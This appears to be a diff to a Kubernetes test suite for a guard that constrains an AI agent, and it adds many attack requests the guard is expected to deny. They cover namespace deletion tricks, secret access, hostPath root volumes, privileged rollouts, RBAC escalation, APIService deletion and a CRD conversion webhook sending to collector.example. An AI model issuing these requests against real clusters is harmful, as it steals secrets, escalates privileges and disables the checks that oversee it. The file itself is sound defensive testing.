@@ -15,6 +15,8 @@ skipped locally and fails under ``CI`` (see ``conftest``).
 from __future__ import annotations
 
 import base64
+import time
+import uuid
 from collections.abc import Callable
 from dataclasses import dataclass
 from typing import Any
@@ -49,6 +51,9 @@ class Attack:
     dry_run: bool = True  # whether the request takes ?dryRun=All (CONNECT does not)
     admitted: tuple[int, ...] = ADMITTED  # statuses once admission lets it through
     stage: str = ADMISSION  # which of the guard's endpoints denies the agent first
+    # The audit log keeps the request body (level Request), so ``agent-guard replay`` can judge it;
+    # Secrets stay at Metadata level (their bodies are secret data), and replay cannot see their type.
+    body_audited: bool = True
 
     def denied_by(self, authorizer: bool) -> str:
         """The stage that denies the row, given whether the apiserver calls the guard's authorizer
@@ -144,6 +149,40 @@ def delete_namespace_foreground(scene: Scene) -> kube.Request:
     return kube.Request("DELETE", f"/api/v1/namespaces/{scene.namespace}", options)
 
 
+def strip_namespace_finalizers(scene: Scene) -> kube.Request:
+    """PUT namespaces/finalize with no finalizers: on a terminating namespace, the content is orphaned."""
+    current = scene.admin.ok(kube.Request("GET", f"/api/v1/namespaces/{scene.namespace}")).body
+    current["spec"] = {"finalizers": []}
+    return kube.Request("PUT", f"/api/v1/namespaces/{scene.namespace}/finalize", current)
+
+
+def _owner() -> list[dict[str, str]]:
+    """An owner that does not exist: the garbage collector deletes the dependent namespace."""
+    return [{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": str(uuid.uuid4())}]
+
+
+def namespace_owner_merge_patch(scene: Scene) -> kube.Request:
+    patch = {"metadata": {"ownerReferences": _owner()}}
+    return kube.Request(
+        "PATCH", f"/api/v1/namespaces/{scene.namespace}", patch, content_type="application/merge-patch+json"
+    )
+
+
+def namespace_owner_server_side_apply(scene: Scene) -> kube.Request:
+    applied = {
+        "apiVersion": "v1",
+        "kind": "Namespace",
+        "metadata": {"name": scene.namespace, "ownerReferences": _owner()},
+    }
+    return kube.Request(
+        "PATCH",
+        f"/api/v1/namespaces/{scene.namespace}",
+        applied,
+        content_type="application/apply-patch+yaml",
+        query=(("fieldManager", "e2e-agent"), ("force", "true")),
+    )
+
+
 # --- secret-access --------------------------------------------------------------------------
 
 
@@ -171,6 +210,35 @@ def exec_into_pod(scene: Scene) -> kube.Request:
     path = _existing_pod(scene)
     # CONNECT admission runs before the apiserver looks for the pod's node (it has none: HTTP 400).
     return kube.Request("POST", f"{path}/exec", query=(("command", "env"), ("stdout", "true")))
+
+
+def bootstrap_token_secret(scene: Scene) -> kube.Request:
+    token_id = scene.suffix  # 6 hex characters, as bootstrap token ids are
+    secret = {
+        "metadata": {"name": f"bootstrap-token-{token_id}"},
+        "type": "bootstrap.kubernetes.io/token",
+        "stringData": {"token-id": token_id, "token-secret": "0123456789abcdef"},
+    }
+    return kube.Request("POST", f"/api/v1/namespaces/{scene.namespace}/secrets", secret)
+
+
+def pod_secrets_store_csi(scene: Scene) -> kube.Request:
+    volume = {
+        "name": "vault",
+        "csi": {
+            "driver": "secrets-store.csi.k8s.io",
+            "readOnly": True,
+            "volumeAttributes": {"secretProviderClass": "db"},
+        },
+    }
+    mounted = container(volumeMounts=[{"name": "vault", "mountPath": "/mnt/secrets"}])
+    return kube.Request("POST", _pods(scene), pod("store-reader", volumes=[volume], containers=[mounted]))
+
+
+def options_on_pod_proxy(scene: Scene) -> kube.Request:
+    """OPTIONS on a proxy path reaches the authorizer without a verb (the guard used to answer 400)."""
+    path = _existing_pod(scene)
+    return kube.Request("OPTIONS", f"{path}/proxy/")
 
 
 # --- privileged-workload --------------------------------------------------------------------
@@ -216,6 +284,104 @@ def ephemeral_container(scene: Scene) -> kube.Request:
     return kube.Request(
         "PATCH", f"{path}/ephemeralcontainers", patch, content_type="application/strategic-merge-patch+json"
     )
+
+
+def host_path_persistent_volume(scene: Scene) -> kube.Request:
+    volume = {
+        "apiVersion": "v1",
+        "kind": "PersistentVolume",
+        "metadata": {"name": f"e2e-node-root-{scene.suffix}"},
+        "spec": {
+            "capacity": {"storage": "1Gi"},
+            "accessModes": ["ReadWriteOnce"],
+            "hostPath": {"path": "/"},
+            "claimRef": {"namespace": scene.namespace, "name": "data"},
+        },
+    }
+    return kube.Request("POST", "/api/v1/persistentvolumes", volume)
+
+
+def git_repo_volume(scene: Scene) -> kube.Request:
+    volume = {"name": "src", "gitRepo": {"repository": "https://git.example/site.git"}}
+    mounted = container(volumeMounts=[{"name": "src", "mountPath": "/src"}])
+    return kube.Request("POST", _pods(scene), pod("git", volumes=[volume], containers=[mounted]))
+
+
+def service_external_ips(scene: Scene) -> kube.Request:
+    service = {
+        "metadata": {"name": "capture"},
+        "spec": {
+            "selector": {"app": "capture"},
+            "ports": [{"port": 53, "protocol": "UDP"}],
+            "externalIPs": ["192.0.2.53"],
+        },
+    }
+    return kube.Request("POST", f"/api/v1/namespaces/{scene.namespace}/services", service)
+
+
+def privileged_controller_revision(scene: Scene) -> kube.Request:
+    root = container(
+        securityContext={"privileged": True, "allowPrivilegeEscalation": True, "runAsNonRoot": False}
+    )
+    template = {
+        "$patch": "replace",
+        "metadata": {"labels": {"app": "db"}},
+        "spec": pod_spec(containers=[root]),
+    }
+    revision = {
+        "apiVersion": "apps/v1",
+        "kind": "ControllerRevision",
+        "metadata": {"name": "db-1"},
+        "revision": 1,
+        "data": {"spec": {"template": template}},
+    }
+    return kube.Request("POST", f"/apis/apps/v1/namespaces/{scene.namespace}/controllerrevisions", revision)
+
+
+ROLLOUTS_CRD = "rollouts.argoproj.io"
+
+
+def ensure_rollout_crd(admin: kube.Client) -> None:
+    """Argo Rollouts' kind, schema-less (the guard reads the pod template, not the controller)."""
+    crd = {
+        "apiVersion": "apiextensions.k8s.io/v1",
+        "kind": "CustomResourceDefinition",
+        "metadata": {"name": ROLLOUTS_CRD},
+        "spec": {
+            "group": "argoproj.io",
+            "scope": "Namespaced",
+            "names": {"plural": "rollouts", "singular": "rollout", "kind": "Rollout"},
+            "versions": [
+                {
+                    "name": "v1alpha1",
+                    "served": True,
+                    "storage": True,
+                    "schema": {
+                        "openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": True}
+                    },
+                }
+            ],
+        },
+    }
+    path = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
+    created = admin.request(kube.Request("POST", path, crd))
+    assert created.status in (201, 409), created
+    for _ in range(100):
+        if admin.request(kube.Request("GET", "/apis/argoproj.io/v1alpha1/rollouts")).status == 200:
+            return
+        time.sleep(0.1)
+    raise AssertionError(f"{ROLLOUTS_CRD} was not served within 10s")
+
+
+def privileged_rollout(scene: Scene) -> kube.Request:
+    ensure_rollout_crd(scene.admin)
+    root = container(
+        securityContext={"privileged": True, "allowPrivilegeEscalation": True, "runAsNonRoot": False}
+    )
+    rollout = deployment("canary", containers=[root])
+    rollout.update(apiVersion="argoproj.io/v1alpha1", kind="Rollout")
+    rollout["spec"]["strategy"] = {"canary": {"steps": [{"setWeight": 20}]}}
+    return kube.Request("POST", f"/apis/argoproj.io/v1alpha1/namespaces/{scene.namespace}/rollouts", rollout)
 
 
 # --- workload-identity ----------------------------------------------------------------------
@@ -269,6 +435,16 @@ def certificate_signing_request(scene: Scene) -> kube.Request:
     return kube.Request("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", csr)
 
 
+def debug_role(scene: Scene) -> kube.Request:
+    role = {
+        "metadata": {"name": "debugger"},
+        "rules": [
+            {"apiGroups": [""], "resources": ["pods/ephemeralcontainers"], "verbs": ["update", "patch"]}
+        ],
+    }
+    return kube.Request("POST", f"{RBAC}/namespaces/{scene.namespace}/roles", role)
+
+
 # --- guard-tamper ---------------------------------------------------------------------------
 
 
@@ -291,16 +467,85 @@ def relax_pod_security_label(scene: Scene) -> kube.Request:
     )
 
 
+APISERVICES = "/apis/apiregistration.k8s.io/v1/apiservices"
+
+
+def delete_api_service(scene: Scene) -> kube.Request:
+    """A local APIService made by the admin (no backend: it changes no routing), deleted by the agent.
+
+    Deleting a real one switches its API group off; repointing one (``v1.admissionregistration.k8s.io``)
+    hands the apiserver's webhook informers to the agent's backend. Admission sees APIService writes
+    (only admissionregistration.k8s.io objects are exempt), so the dry-run replay proves that too.
+    """
+    group = f"e2e-{scene.suffix}.example.com"
+    service = {
+        "metadata": {"name": f"v1.{group}"},
+        "spec": {"group": group, "version": "v1", "groupPriorityMinimum": 100, "versionPriority": 10},
+    }
+    scene.admin.ok(kube.Request("POST", APISERVICES, service))
+    return kube.Request("DELETE", f"{APISERVICES}/v1.{group}")
+
+
+def crd_with_conversion_webhook(scene: Scene) -> kube.Request:
+    group = f"e2e-{scene.suffix}.example.com"
+    crd = {
+        "metadata": {"name": f"widgets.{group}"},
+        "spec": {
+            "group": group,
+            "scope": "Namespaced",
+            "names": {"plural": "widgets", "singular": "widget", "kind": "Widget"},
+            "versions": [
+                {
+                    "name": "v1",
+                    "served": True,
+                    "storage": True,
+                    "schema": {
+                        "openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": True}
+                    },
+                }
+            ],
+            "conversion": {
+                "strategy": "Webhook",
+                "webhook": {
+                    "conversionReviewVersions": ["v1"],
+                    "clientConfig": {"url": "https://collector.example/convert"},
+                },
+            },
+        },
+    }
+    return kube.Request("POST", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions", crd)
+
+
 ATTACKS = (
-    Attack("delete-namespace", "namespace-delete", delete_namespace),
-    Attack("delete-namespace-foreground", "namespace-delete", delete_namespace_foreground),
+    Attack("delete-namespace", "namespace-delete", delete_namespace, stage=AUTHORIZATION),
+    Attack(
+        "delete-namespace-foreground", "namespace-delete", delete_namespace_foreground, stage=AUTHORIZATION
+    ),
+    Attack("namespace-finalize", "namespace-delete", strip_namespace_finalizers, stage=AUTHORIZATION),
+    Attack("namespace-owner-merge-patch", "namespace-delete", namespace_owner_merge_patch),
+    Attack("namespace-owner-apply", "namespace-delete", namespace_owner_server_side_apply),
     Attack("token-request", "secret-access", token_request, stage=AUTHORIZATION),
     Attack("pod-mounts-secret", "secret-access", pod_mounting_secret),
     Attack("pod-env-from-secret", "secret-access", pod_env_from_secret),
     Attack(
         "exec-connect", "secret-access", exec_into_pod, dry_run=False, admitted=(400,), stage=AUTHORIZATION
     ),
+    Attack("bootstrap-token-secret", "secret-access", bootstrap_token_secret, body_audited=False),
+    Attack("pod-secrets-store-csi", "secret-access", pod_secrets_store_csi),
+    Attack(
+        "options-pod-proxy",
+        "secret-access",
+        options_on_pod_proxy,
+        dry_run=False,
+        admitted=(400, 502, 503),  # no pod IP to proxy to ("address not allowed"), or nothing listening
+        stage=AUTHORIZATION,
+    ),
     Attack("privileged-pod", "privileged-workload", privileged_pod),
+    Attack("hostpath-persistentvolume", "privileged-workload", host_path_persistent_volume),
+    Attack("gitrepo-volume", "privileged-workload", git_repo_volume),
+    Attack("service-external-ips", "privileged-workload", service_external_ips),
+    Attack("privileged-controllerrevision", "privileged-workload", privileged_controller_revision),
+    Attack("privileged-argo-rollout", "privileged-workload", privileged_rollout),
     Attack("privileged-deployment", "privileged-workload", privileged_deployment),
     Attack("cronjob-hostpath", "privileged-workload", cronjob_host_path),
     Attack("ephemeral-container", "privileged-workload", ephemeral_container),
@@ -309,7 +554,10 @@ ATTACKS = (
     Attack("bind-cluster-admin", "rbac-escalation", bind_cluster_admin),
     Attack("wildcard-clusterrole", "rbac-escalation", wildcard_cluster_role),
     Attack("csr-create", "rbac-escalation", certificate_signing_request),
+    Attack("role-ephemeral-containers", "rbac-escalation", debug_role),
     Attack("configmap-in-guard-namespace", "guard-tamper", configmap_in_guard_namespace, stage=AUTHORIZATION),
     Attack("delete-guard-deployment", "guard-tamper", delete_guard_deployment, stage=AUTHORIZATION),
     Attack("relax-pod-security-label", "guard-tamper", relax_pod_security_label),
+    Attack("delete-apiservice", "guard-tamper", delete_api_service, stage=AUTHORIZATION),
+    Attack("crd-conversion-webhook", "guard-tamper", crd_with_conversion_webhook),
 )
